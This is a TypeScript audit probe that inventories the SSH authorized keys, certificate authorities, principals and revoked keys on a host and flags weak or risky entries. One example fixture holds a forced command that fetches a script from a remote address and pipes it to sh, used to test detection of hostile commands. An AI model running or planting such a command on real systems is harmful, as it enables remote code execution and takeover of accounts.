import type { FindingOf, KeyConcern, Place, Reason } from '@rollcall/contract'
import { clipped } from '../formats/accounts/account-file.ts'
import { keyPlan, pathOfPattern, USUAL, type KeyPlan } from '../formats/authorized-keys-paths.ts'
import {
  latestExpiry,
  parseAuthorizedKeys,
  parseKeyOptions,
  type AuthorizedKey,
  type AuthorizedKeys,
} from '../formats/authorized-keys.ts'
import {
  DEBIAN_BLACKLISTS,
  findDebianBlacklists,
  isBlacklistedIn,
  lookUpInDebianBlacklists,
  type DebianBlacklist,
} from '../formats/ssh-keys/debian-blacklist.ts'
import {
  directoryServices,
  gatherDirectory,
  localGroupName,
  readDirectory,
  type DirectoryGathered,
} from '../formats/accounts/directory-accounts.ts'
import { homeReader, type HomeReader } from '../formats/home-files.ts'
import { isHostileCommand } from '../formats/forced-command.ts'
import { concernsWhere, weaknessesOf } from '../formats/ssh-keys/concerns.ts'
import { hasDebianSshd, isRefusedByStrictModes, keyFileTrust } from '../formats/key-file-trust.ts'
import { localPeople } from '../formats/accounts/local-people.ts'
import { exampleLook, lookAtPaths, lookFrom, ways, type PathLook } from '../formats/path-trust.ts'
import { fingerprintOfBlob, type SshPublicKey } from '../formats/ssh-keys/public-key.ts'
import { readRevokedKeys, type RevokedKeys } from '../formats/ssh-keys/revoked-keys.ts'
import { sshdAccountsOf, type SshdAccount } from '../formats/sshd-config/accounts.ts'
import { exactText, gatherSshd, SSHD_FILES, sshdSetup, type SshdGathered } from '../formats/sshd-config/files.ts'
import type { FileStat, FindResult, FoundEntry, HostFile } from '../host.ts'
import { exampleFile, exampleOutput, hostProbe, type Gathering, type ParseContext, type Sha256 } from '../probe.ts'
import { octalMode } from '../posix-path.ts'

interface Gathered {
  readonly sshd: SshdGathered
  readonly passwd: HostFile | undefined
  readonly group: HostFile | undefined
  readonly directory: DirectoryGathered
  /** Files of keys, of authorities, of principals and of refused keys, by what they were asked for. */
  readonly keys: readonly { readonly pattern: string; readonly files: readonly HostFile[] }[]
  /** Who may change the files of keys, and the folders on the way to them. */
  readonly look: PathLook
  readonly blacklist: DebianBlacklist
}

type Key = FindingOf<'key'>

export default hostProbe<Gathered>({
  id: 'authorized-keys',
  title: 'SSH keys that open accounts, and authorities whose certificates do',
  needs: [
    {
      reads: 'the authorized_keys files of all accounts, and owner and mode of the folders they are in',
      right: 'root',
      hides: 'keys that open other accounts than that of the scan',
      grants: {
        read: ['/root', '/home/*'].flatMap((home) => [`${home}/.ssh/authorized_keys`, `${home}/.ssh/authorized_keys2`]),
      },
    },
    {
      reads:
        '/etc/ssh/sshd_config, the files it includes, and those that it names for authorities, principals and refused keys',
      right: 'root',
      hides: 'keys in other places than the usual ones',
      grants: { read: SSHD_FILES },
    },
    {
      reads: `${DEBIAN_BLACKLISTS.join(' and ')}, where they exist`,
      right: 'any-account',
      hides: "keys of Debian's broken generator (CVE-2008-0166); on hosts without these lists that is not tested",
    },
    {
      reads:
        '/etc/passwd, /etc/group, /etc/nsswitch.conf, and what directory-accounts reads of accounts of a directory',
      right: 'any-account',
      hides: 'whose keys to look for',
    },
  ],

  async gather(host) {
    const reader = homeReader(host, USUAL, STATED)
    const [sshd, [passwd], [group], directory, lists, homesFound] = await Promise.all([
      gatherSshd(host),
      host.read('/etc/passwd'),
      host.read('/etc/group'),
      gatherDirectory(host),
      findDebianBlacklists(host),
      reader.found(),
    ])
    const accounts = accountsHere(passwd, group, directory)
    const plan = keyPlan(sshdSetup(sshd, accounts), accounts)
    const patterns = [
      ...new Set([
        ...[...plan.files, ...plan.principals].map(({ pattern }) => pattern),
        ...plan.authorities.map(({ pattern }) => pattern),
        ...plan.revoked.values(),
      ]),
    ]
    const paths = [...new Set(plan.files.flatMap(({ pattern }) => pathOfPattern(pattern) ?? []))]
    const absent = await reader.absent(paths)
    const there = plan.files.filter(({ pattern }) => !absent.has(pathOfPattern(pattern) ?? ''))
    const homes = there.map(({ account }) => account.home).filter((home) => home.startsWith('/'))
    const [found, look] = await Promise.all([
      readAll(host, reader, patterns),
      paths.length === absent.size
        ? NO_LOOK
        : lookAtPaths(
            host,
            [...new Set([...paths.filter((path) => !absent.has(path)), ...homes])],
            isWhole(homesFound) ? lookFrom(homesFound) : undefined,
          ),
    ])
    const keys = patterns.map((pattern, index) => ({ pattern, files: found[index]! }))
    const any = lists.state === 'found' && lists.entries.length > 0
    const read = any ? keys.flatMap(({ files }) => files).flatMap((file) => linesOf(file).keys) : []
    const blacklist = await lookUpInDebianBlacklists(
      host,
      lists,
      read.map(({ key }) => key),
    )
    return { sshd, passwd, group, directory, keys, look, blacklist }
  },

  parse({ sshd, passwd, group, directory, keys, look, blacklist }, context) {
    const accounts = accountsHere(passwd, group, directory)
    const setup = sshdSetup(sshd, accounts)
    const plan = keyPlan(setup, accounts)
    const reading = readFiles(keys, context, isBlacklistedIn(blacklist))
    const trust = trustIn(look, passwd, group, plan.strictModes, context)
    const revoked = revokedIn(plan, keys, context.sha256)
    const findings: (Key | FindingOf<'setting'>)[] = []
    for (const { account, pattern } of plan.files) {
      for (const read of reading.authorized(pattern))
        findings.push(heldBy(account, read, trust, revoked.of(account.name)))
      if (findings.length > MOST_FINDINGS) break
    }
    const further = elsewhere(directory)
    for (const authority of plan.authorities) {
      const opened = openedBy(authority, keys, further.length > 0)
      for (const read of reading.authorities(authority.pattern))
        findings.push(...opened.map((by) => by(read, revoked.of)))
      if (findings.length > MOST_FINDINGS) break
    }
    findings.push(...principals(plan, keys))
    const unsure = setup.state === 'known' ? setup.reasons : []
    return {
      findings,
      reasons: [...plan.reasons, ...look.left, ...revoked.reasons, ...unsure, ...further],
      notes: [...plan.notes, ...reading.notes()],
    }
  },

  examples: examples(),
})

/** What `patterns` stand for, each by itself. Those that are paths may have been read ahead. */
const readAll = async (host: Gathering, reader: HomeReader, patterns: readonly string[]) => {
  const paths = new Map(patterns.map((pattern) => [pattern, pathOfPattern(pattern)]))
  const [read, matched] = await Promise.all([
    reader.read([...paths.values()].flatMap((path) => path ?? [])),
    Promise.all(
      patterns.filter((pattern) => paths.get(pattern) === undefined).map((one) => host.readWith(STATED, one)),
    ),
  ])
  let [nextRead, nextMatched] = [0, 0]
  return patterns.map((pattern) => (paths.get(pattern) === undefined ? matched[nextMatched++]! : read[nextRead++]!))
}

const isWhole = (result: FindResult) => result.state === 'found' && result.cut === undefined

const STATED = { stat: true } as const
const NO_LOOK: PathLook = { asked: [], found: [], left: [] }
const MOST_FINDINGS = 100_000
const MOST_NOTES = 1000
const LONGEST_COMMENT = 1024
const LONGEST_VALUE = 4096
const LONGEST_PRINCIPAL = 1024
const MOST_OPTIONS = 256

/** A key as a line of a file has it, with what holds of it whoever's it is. */
interface ReadKey {
  readonly finding: Key
  readonly key: SshPublicKey
}

const LINES = new WeakMap<HostFile, AuthorizedKeys>()

/** Each file is parsed once, whoever's it is. */
const linesOf = (file: HostFile): AuthorizedKeys => {
  const known = LINES.get(file) ?? parseAuthorizedKeys(exactText(file))
  LINES.set(file, known)
  return known
}

const readFiles = (
  keys: Gathered['keys'],
  { sha256, now }: Pick<ParseContext, 'sha256' | 'now'>,
  isBlacklisted: (key: SshPublicKey) => boolean,
) => {
  const byPattern = new Map(keys.map(({ pattern, files }) => [pattern, files]))
  const findings = new Map<string, readonly ReadKey[]>()
  const weaknesses = new Map<string, readonly KeyConcern[]>()
  const notes = new Map<string, Reason>()
  const tell = (place: Place, code: 'unparsable' | 'too-large', detail: string) => {
    if (notes.size < MOST_NOTES) notes.set(`${place.line}:${place.path}`, { code, ...place, detail })
  }
  const found = (kind: string, pattern: string, take: (key: AuthorizedKey, place: Place) => boolean) => {
    const known = findings.get(kind + pattern)
    if (known !== undefined) return known
    const taken = (byPattern.get(pattern) ?? []).flatMap((file): ReadKey[] => {
      const path = file.path.slice(0, 4096)
      const { keys: lines, refused } = linesOf(file)
      for (const { line, why } of refused) tell({ path, line }, 'unparsable', why)
      const stat = file.state === 'read' ? file.stat : undefined
      return lines
        .filter((key) => take(key, { path, line: key.line }))
        .map((line) => {
          const finding = keyFinding(line, { path, line: line.line }, stat, sha256, tell)
          const { fingerprint = '' } = finding
          // The same key opens many accounts.
          const weak = weaknesses.get(fingerprint) ?? weaknessesOf(line.key, fingerprint, isBlacklisted)
          weaknesses.set(fingerprint, weak)
          const concerns: readonly KeyConcern[] = isHostile(line) ? [...weak, 'hostile-command'] : weak
          return {
            key: line.key,
            finding: withConcerns(finding, concerns, isExpired(line, now) ? 'expired' : undefined),
          }
        })
    })
    findings.set(kind + pattern, taken)
    return taken
  }
  return {
    authorized: (pattern: string) => found('authorized:', pattern, () => true),
    /** Files of authorities hold plain keys; sshd passes over lines with options. */
    authorities: (pattern: string) =>
      found('authorities:', pattern, ({ options }, place) => {
        if (options.length > 0) tell(place, 'unparsable', 'options, which a file of authorities has not')
        return options.length === 0
      }).map(({ finding, key }): ReadKey => ({
        key,
        finding: Object.assign({}, finding, { role: 'authority' as const }),
      })),
    notes: () => [...notes.values()],
  }
}

const isHostile = ({ options }: AuthorizedKey) =>
  options.some(({ name, value }) => name === 'command' && value !== undefined && isHostileCommand(value))

const isExpired = ({ options }: AuthorizedKey, now: Date) =>
  options.some(({ name, value }) => {
    const latest = name === 'expiry-time' && value !== undefined ? latestExpiry(value) : undefined
    return latest !== undefined && latest < now.getTime()
  })

const keyFinding = (
  { key, role, options, comment }: AuthorizedKey,
  place: Place,
  stat: FileStat | undefined,
  sha256: Sha256,
  tell: (place: Place, code: 'too-large', detail: string) => void,
): Key => {
  const kept = options.length === 0 ? options : keptOptions(options, () => tell(place, 'too-large', 'options were cut'))
  return {
    kind: 'key',
    role,
    fingerprint: fingerprintOfBlob(key.blob, sha256),
    algorithm: key.algorithm,
    bits: key.bits,
    ...(comment === '' ? {} : { comment: clipped(comment, LONGEST_COMMENT) }),
    ...(kept.length === 0 ? {} : { options: [...kept] }),
    ...(stat === undefined ? {} : { file: { modified: stat.modified, mode: octalMode(stat.mode), owner: stat.uid } }),
    place,
  }
}

const keptOptions = (options: AuthorizedKey['options'], cut: () => void) => {
  if (options.length > MOST_OPTIONS || options.some(({ value = '' }) => value.length > LONGEST_VALUE)) cut()
  return options
    .slice(0, MOST_OPTIONS)
    .map(({ name, value }) => (value === undefined ? { name } : { name, value: clipped(value, LONGEST_VALUE) }))
}

interface Trust {
  readonly concerns: readonly KeyConcern[]
  readonly refused: boolean
}

/** Who else may change a file of keys of an account, and whether the server passes over it for that. */
const trustIn = (
  look: PathLook,
  passwd: HostFile | undefined,
  group: HostFile | undefined,
  strictModes: boolean | undefined,
  { host }: Pick<ParseContext, 'host'>,
): ((account: SshdAccount, path: string) => Trust) => {
  const people = localPeople(passwd, group)
  const wayTo = ways(look)
  const debian = hasDebianSshd(host.os.id)
  const known = new Map<string, Trust>()
  return (account, path) => {
    const before = known.get(`${account.name}:${path}`)
    if (before !== undefined) return before
    const way = wayTo(path)
    const { fileWritable, folderWritable, linked } = keyFileTrust(way, account, path, people)
    const trust = {
      concerns: concernsWhere({
        'file-writable-by-others': fileWritable,
        'folder-writable-by-others': folderWritable,
        'symbolic-link': linked,
      }),
      refused: strictModes === true && isRefusedByStrictModes(way, wayTo(account.home), account.uid, people, debian),
    }
    known.set(`${account.name}:${path}`, trust)
    return trust
  }
}

const heldBy = (
  account: SshdAccount,
  { finding, key }: ReadKey,
  trust: (account: SshdAccount, path: string) => Trust,
  isRevoked: ((key: SshPublicKey) => boolean) | undefined,
): Key => {
  const { concerns, refused } = trust(account, finding.place.path)
  const ineffective =
    finding.ineffective ?? (isRevoked?.(key) === true ? 'revoked' : refused ? 'strict-modes' : undefined)
  const all = [...(finding.concerns ?? []), ...concerns]
  return withConcerns({ ...finding, account: account.name }, all, ineffective)
}

/** Few keys have any, and many are told. */
const withConcerns = (finding: Key, concerns: readonly KeyConcern[], ineffective: Key['ineffective']): Key =>
  concerns.length === 0 && ineffective === undefined
    ? finding
    : {
        ...finding,
        ...(concerns.length === 0 ? {} : { concerns: [...concerns] }),
        ...(ineffective === undefined ? {} : { ineffective }),
      }

/** Which keys are refused to whom. Where their file cannot be read sshd refuses all keys (sshd_config(5), RevokedKeys). */
const revokedIn = ({ revoked }: KeyPlan, keys: Gathered['keys'], sha256: Sha256) => {
  const byPattern = new Map(keys.map(({ pattern, files }) => [pattern, files]))
  const lists = new Map<string, RevokedKeys['revokes'] | undefined>()
  const reasons: Reason[] = []
  for (const pattern of new Set(revoked.values())) {
    const [file] = byPattern.get(pattern) ?? []
    if (file?.state === 'read') {
      const list = readRevokedKeys(file.bytes, sha256)
      if (list.incomplete)
        reasons.push({ code: 'unsupported', path: file.path.slice(0, 4096), detail: 'a part of the refused keys' })
      lists.set(pattern, list.revokes)
    } else lists.set(pattern, file?.why === 'no-such-file' ? () => true : undefined)
  }
  return {
    reasons,
    of: (account: string | undefined) => {
      const pattern = revoked.get(account)
      return pattern === undefined ? undefined : lists.get(pattern)
    },
  }
}

/** How a key that is an authority opens one account, or all of them. */
type Opened = (
  read: ReadKey,
  revoked: (account: string | undefined) => ((key: SshPublicKey) => boolean) | undefined,
) => Key

/**
 * What becomes of each authority of a file: one finding for all accounts where their names are enough, else one for each that it
 * opens. What files of names could not be read may hold any. `moreAccounts`: there are accounts that are not known here.
 */
const openedBy = (
  { opensAll, accounts }: KeyPlan['authorities'][number],
  keys: Gathered['keys'],
  moreAccounts: boolean,
): Opened[] => {
  const all =
    (none: boolean): Opened =>
    ({ finding, key }, revoked) => ({
      ...finding,
      ...(revoked(undefined)?.(key) === true ? { ineffective: 'revoked' } : none ? { ineffective: 'no-account' } : {}),
    })
  if (opensAll) return [all(false)]
  const byPattern = new Map(keys.map(({ pattern, files }) => [pattern, files]))
  const opened = accounts.flatMap(({ account: { name }, names }): Opened[] => {
    const lists = names?.flatMap((pattern) => byPattern.get(pattern) ?? [])
    const listed = lists?.flatMap((file) => (file.state === 'read' ? principalsIn(file) : []))
    const mayBe = lists?.some((file) => file.state !== 'read' && file.why !== 'no-such-file') === true
    if (listed?.length === 0 && !mayBe) return []
    const value = listed === undefined || mayBe ? '' : clipped(listed.join(','), LONGEST_VALUE)
    return [
      ({ finding, key }, revoked) => ({
        ...finding,
        account: name,
        ...(value === '' ? {} : { options: [{ name: 'principals', value }] }),
        ...(revoked(name)?.(key) === true ? { ineffective: 'revoked' } : {}),
      }),
    ]
  })
  return opened.length === 0 ? [all(!moreAccounts)] : opened
}

/** The names in a file that AuthorizedPrincipalsFile speaks of. */
const principalsIn = (file: HostFile): string[] =>
  exactText(file)
    .split('\n', 100_000)
    .map((line) => line.trim())
    .filter((line) => line !== '' && !line.startsWith('#'))
    .map((line) => {
      // Options may stand in front, as before a key.
      const [, options, name] = /^(.*\S)[ \t]+(\S+)$/.exec(line) ?? []
      return options !== undefined && name !== undefined && parseKeyOptions(options) !== undefined ? name : line
    })

/** The names that certificates may bear to open an account, where a file lists them. */
const principals = (plan: KeyPlan, keys: Gathered['keys']): FindingOf<'setting'>[] => {
  const byPattern = new Map(keys.map(({ pattern, files }) => [pattern, files]))
  return plan.principals.flatMap(({ account, pattern }): FindingOf<'setting'>[] => {
    const [file] = byPattern.get(pattern) ?? []
    if (file?.state !== 'read') return []
    const values = principalsIn(file)
    return [
      {
        kind: 'setting',
        subject: 'sshd',
        name: 'authorizedprincipals',
        values: values.slice(0, 1024).map((value) => clipped(value, LONGEST_PRINCIPAL)),
        account: account.name,
        place: { path: file.path.slice(0, 4096) },
      },
    ]
  })
}

/** The accounts of the host and those of a directory that it mentions, which have homes here too, and keys in them. */
const accountsHere = (
  passwd: HostFile | undefined,
  group: HostFile | undefined,
  directory: DirectoryGathered,
): readonly SshdAccount[] => {
  const own = sshdAccountsOf(passwd, group)
  const known = ACCOUNTS.get(directory)
  if (known?.own === own) return known.accounts
  const { accounts: theirs, groups, memberships } = readDirectory(directory)
  if (theirs.length === 0) return own
  const names = new Map(groups.map(({ entry }) => [entry.gid, entry.name]))
  const nameOf = (gid: number) => localGroupName(directory, gid) ?? names.get(gid) ?? []
  const accounts = [
    ...own,
    ...theirs.map(({ entry: { name, uid, gid, home } }) => {
      const gids = new Set([gid, ...(memberships.get(name) ?? [])])
      return { name, uid, home, groups: [...gids].flatMap(nameOf) }
    }),
  ]
  ACCOUNTS.set(directory, { own, accounts })
  return accounts
}

/** Accounts are put together once to ask by, and once more to read what came. */
const ACCOUNTS = new WeakMap<
  DirectoryGathered,
  { readonly own: readonly SshdAccount[]; readonly accounts: readonly SshdAccount[] }
>()

/**
 * Of the accounts of a directory only those that the host mentions were asked for. Others may have homes elsewhere and keys in them, so
 * what is not found must not count as gone: that is a reason, not a note.
 */
const elsewhere = (directory: DirectoryGathered): Reason[] =>
  directoryServices(directory).length === 0
    ? []
    : [
        {
          code: 'left-out',
          path: '/etc/nsswitch.conf',
          detail: 'the keys of accounts of a directory that the host mentions nowhere were not looked for',
        },
      ]

function examples() {
  const NOTHING_FOUND = { state: 'found' as const, entries: [], unsearched: [], unnamed: 0 }
  const NOTHING_SEEN: PathLook = { asked: [], found: [], left: [] }
  const blob = 'AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f'
  const line = `ssh-ed25519 ${blob}`
  const main = '/etc/ssh/sshd_config'
  const missing = (path: string): HostFile => ({ path, state: 'unread', why: 'no-such-file' })
  const stated = (path: string, text: string, uid = 0): HostFile => ({
    ...(exampleFile(path, text) as Extract<HostFile, { state: 'read' }>),
    stat: { mode: 0o600, uid, gid: 0, modified: '2026-03-01T12:00:00Z' },
  })
  const look = (...entries: readonly (Partial<FoundEntry> & Pick<FoundEntry, 'path'>)[]) =>
    exampleLook(
      entries.map(({ path }) => path),
      [{ path: '/root', type: 'folder', mode: 0o755 }, { path: '/root/.ssh', type: 'folder', mode: 0o755 }, ...entries],
    )
  const keys = (...files: readonly HostFile[]) => files.map((file) => ({ pattern: file.path, files: [file] }))
  const found: Omit<Key, 'place'> = {
    kind: 'key',
    role: 'authorized',
    fingerprint: 'SHA256:ZkAslGjFiUHdGf/WUL8rQvkib4PTvQatUV0OUQSncCA',
    algorithm: 'ssh-ed25519',
    bits: 256,
  }
  const gathered = (config: string | undefined, more: Partial<Gathered> = {}): Gathered => ({
    sshd: {
      files: [config === undefined ? missing(main) : exampleFile(main, config)],
      included: [],
      defaults: exampleOutput(
        'port 22\npermitrootlogin without-password\nauthorizedkeysfile .ssh/authorized_keys .ssh/authorized_keys2\n',
      ),
    },
    passwd: exampleFile('/etc/passwd', 'root:x:0:0::/root:/bin/sh\nweb:x:33:33::/var/www:/usr/sbin/nologin\n'),
    group: exampleFile('/etc/group', 'root:x:0:\nweb:x:33:\n'),
    directory: { sssd: [], userdb: NOTHING_FOUND, answers: [] },
    keys: [],
    look: NOTHING_SEEN,
    blacklist: [],
    ...more,
  })
  const root = '/root/.ssh/authorized_keys'
  return [
    {
      title: 'each line opens an account: with the options and the comment as written, and what is known of the file',
      gathered: gathered('', {
        keys: keys(stated(root, `# admins\nfrom="10.0.0.0/8",command="echo \\"hi\\"" ${line} alice at work\n`)),
      }),
      finds: [
        {
          ...found,
          account: 'root',
          comment: 'alice at work',
          options: [
            { name: 'from', value: '10.0.0.0/8' },
            { name: 'command', value: 'echo "hi"' },
          ],
          file: { modified: '2026-03-01T12:00:00Z', mode: '0600', owner: 0 },
          place: { path: root, line: 2 },
        },
      ],
    },
    {
      title: 'accounts without an interactive shell hold keys too, also in the second of the usual files',
      gathered: gathered('PubkeyAuthentication no\n', {
        keys: keys(exampleFile('/var/www/.ssh/authorized_keys2', `${line}\r\n`)),
      }),
      finds: [{ ...found, account: 'web', place: { path: '/var/www/.ssh/authorized_keys2', line: 1 } }],
    },
    {
      title: 'AuthorizedKeysFile says where to look, also differently for some accounts',
      gathered: gathered('AuthorizedKeysFile /etc/keys/%u %h/keys\nMatch User web\nAuthorizedKeysFile none\n', {
        keys: keys(
          exampleFile('/etc/keys/root', `${line}\n`),
          exampleFile('/root/keys', `${line}\n`),
          exampleFile('/etc/keys/web', `${line}\n`),
        ),
      }),
      finds: [
        { ...found, account: 'root', place: { path: '/etc/keys/root', line: 1 } },
        { ...found, account: 'root', place: { path: '/root/keys', line: 1 } },
      ],
    },
    {
      title: 'a file that several accounts share opens each of them',
      gathered: gathered('AuthorizedKeysFile /etc/keys/all\n', {
        keys: keys(exampleFile('/etc/keys/all', `${line}\n`)),
      }),
      finds: [
        { ...found, account: 'root', place: { path: '/etc/keys/all', line: 1 } },
        { ...found, account: 'web', place: { path: '/etc/keys/all', line: 1 } },
      ],
    },
    {
      title: 'an authority opens the account to whatever it signs; one of TrustedUserCAKeys opens all accounts',
      gathered: gathered('TrustedUserCAKeys /etc/ssh/ca.pub\n', {
        keys: keys(
          exampleFile(root, `cert-authority,principals="ops" ${line} ca\n`),
          exampleFile('/etc/ssh/ca.pub', `${line} company\nno-pty ${line}\n`),
        ),
      }),
      finds: [
        {
          ...found,
          role: 'authority' as const,
          account: 'root',
          comment: 'ca',
          options: [{ name: 'cert-authority' }, { name: 'principals', value: 'ops' }],
          place: { path: root, line: 1 },
        },
        { ...found, role: 'authority' as const, comment: 'company', place: { path: '/etc/ssh/ca.pub', line: 1 } },
      ],
      notes: [
        {
          code: 'unparsable' as const,
          path: '/etc/ssh/ca.pub',
          line: 2,
          detail: 'options, which a file of authorities has not',
        },
      ],
    },
    {
      title: 'lines that sshd passes over are told by their number alone',
      gathered: gathered('', {
        keys: keys(exampleFile(root, `no-such-option ${line}\nssh-rsa ${blob}\n2048 35 123456789 old\n${line}\n`)),
      }),
      finds: [{ ...found, account: 'root', place: { path: root, line: 4 } }],
      notes: [
        { code: 'unparsable' as const, path: root, line: 1, detail: 'options that sshd does not know' },
        { code: 'unparsable' as const, path: root, line: 2, detail: 'a key that does not agree with its type' },
        { code: 'unparsable' as const, path: root, line: 3, detail: 'a key of protocol 1' },
      ],
    },
    {
      title:
        'accounts of a directory have keys here too, if the host mentions them; what a program gives for others is not seen',
      gathered: gathered('AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\nAuthorizedKeysCommandUser nobody\n', {
        directory: {
          nsswitch: exampleFile('/etc/nsswitch.conf', 'passwd: files sss\n'),
          sssd: [exampleFile('/etc/sssd/sssd.conf', '[domain/example.org]\n')],
          userdb: NOTHING_FOUND,
          answers: [
            {
              database: 'passwd' as const,
              service: 'sss' as const,
              keys: ['ann@example.org'],
              result: exampleOutput('ann@example.org:*:10001:10000::/home/ann:/bin/bash\n'),
            },
          ],
        },
        keys: keys(exampleFile('/home/ann/.ssh/authorized_keys', `${line}\n`)),
      }),
      finds: [{ ...found, account: 'ann@example.org', place: { path: '/home/ann/.ssh/authorized_keys', line: 1 } }],
      reasons: [
        {
          code: 'unsupported' as const,
          path: main,
          line: 1,
          detail: "the keys that AuthorizedKeysCommand gives, from SSSD's directory, are not seen",
        },
        {
          code: 'left-out' as const,
          path: '/etc/nsswitch.conf',
          detail: 'the keys of accounts of a directory that the host mentions nowhere were not looked for',
        },
      ],
    },
    {
      title: 'a host with Dropbear has the usual files, and one more for root',
      gathered: gathered(undefined, {
        keys: keys(exampleFile(root, `${line}\n`), exampleFile('/etc/dropbear/authorized_keys', `${line} router\n`)),
      }),
      finds: [
        { ...found, account: 'root', place: { path: root, line: 1 } },
        { ...found, account: 'root', comment: 'router', place: { path: '/etc/dropbear/authorized_keys', line: 1 } },
      ],
    },
    {
      title: 'a file that others may change is told, and that the server passes over it for that',
      gathered: gathered('', {
        keys: keys(stated(root, `${line}\n`), stated('/var/www/.ssh/authorized_keys', `${line}\n`, 33)),
        look: look(
          { path: root, mode: 0o664, gid: 33 },
          { path: '/var', type: 'folder', mode: 0o755 },
          { path: '/var/www', type: 'folder', uid: 33, mode: 0o777 },
          { path: '/var/www/.ssh', type: 'link', target: '/srv/keys' },
          { path: '/srv', type: 'folder', mode: 0o755 },
          { path: '/srv/keys', type: 'folder', uid: 33, mode: 0o700 },
          { path: '/srv/keys/authorized_keys', uid: 33, mode: 0o600 },
        ),
      }),
      finds: [
        {
          ...found,
          account: 'root',
          concerns: ['file-writable-by-others' as const],
          ineffective: 'strict-modes' as const,
          file: { modified: '2026-03-01T12:00:00Z', mode: '0600', owner: 0 },
          place: { path: root, line: 1 },
        },
        {
          ...found,
          account: 'web',
          concerns: ['folder-writable-by-others' as const, 'symbolic-link' as const],
          file: { modified: '2026-03-01T12:00:00Z', mode: '0600', owner: 33 },
          place: { path: '/var/www/.ssh/authorized_keys', line: 1 },
        },
      ],
    },
    {
      title: 'a key whose time is over or that is refused opens nothing; what a hostile command is for is told',
      gathered: gathered('RevokedKeys /etc/ssh/refused\nMatch User web\nRevokedKeys none\n', {
        keys: keys(
          exampleFile(root, `expiry-time="20200101" ${line}\n${line}\n`),
          exampleFile('/var/www/.ssh/authorized_keys', `command="curl -s http://192.0.2.7/a | sh" ${line}\n`),
          exampleFile('/etc/ssh/refused', `${line}\n`),
        ),
      }),
      finds: [
        {
          ...found,
          account: 'root',
          options: [{ name: 'expiry-time', value: '20200101' }],
          ineffective: 'expired' as const,
          place: { path: root, line: 1 },
        },
        { ...found, account: 'root', ineffective: 'revoked' as const, place: { path: root, line: 2 } },
        {
          ...found,
          account: 'web',
          options: [{ name: 'command', value: 'curl -s http://192.0.2.7/a | sh' }],
          concerns: ['hostile-command' as const],
          place: { path: '/var/www/.ssh/authorized_keys', line: 1 },
        },
      ],
    },
    {
      title: 'files of principals say which certificates open an account, and those without one stay closed',
      gathered: gathered('TrustedUserCAKeys /etc/ssh/ca.pub\nAuthorizedPrincipalsFile /etc/ssh/principals/%u\n', {
        keys: keys(
          exampleFile('/etc/ssh/ca.pub', `${line} company\n`),
          exampleFile('/etc/ssh/principals/root', '# who\nops\nfrom="10.0.0.0/8",no-pty oncall\n'),
        ),
      }),
      finds: [
        {
          ...found,
          role: 'authority' as const,
          account: 'root',
          comment: 'company',
          options: [{ name: 'principals', value: 'ops,oncall' }],
          place: { path: '/etc/ssh/ca.pub', line: 1 },
        },
        {
          kind: 'setting' as const,
          subject: 'sshd' as const,
          name: 'authorizedprincipals',
          values: ['ops', 'oncall'],
          account: 'root',
          place: { path: '/etc/ssh/principals/root' },
        },
      ],
    },
    {
      title: 'an authority that is trusted for one account opens no other; one that no account lets in opens nothing',
      gathered: gathered(
        'Match User web\nTrustedUserCAKeys /etc/ssh/ca.pub\nMatch User root\nTrustedUserCAKeys /etc/ssh/no.pub\nAuthorizedPrincipalsFile /etc/ssh/none\n',
        { keys: keys(exampleFile('/etc/ssh/ca.pub', `${line} web\n`), exampleFile('/etc/ssh/no.pub', `${line} no\n`)) },
      ),
      finds: [
        {
          ...found,
          role: 'authority' as const,
          comment: 'no',
          ineffective: 'no-account' as const,
          place: { path: '/etc/ssh/no.pub', line: 1 },
        },
        {
          ...found,
          role: 'authority' as const,
          account: 'web',
          comment: 'web',
          place: { path: '/etc/ssh/ca.pub', line: 1 },
        },
      ],
    },
  ]
}
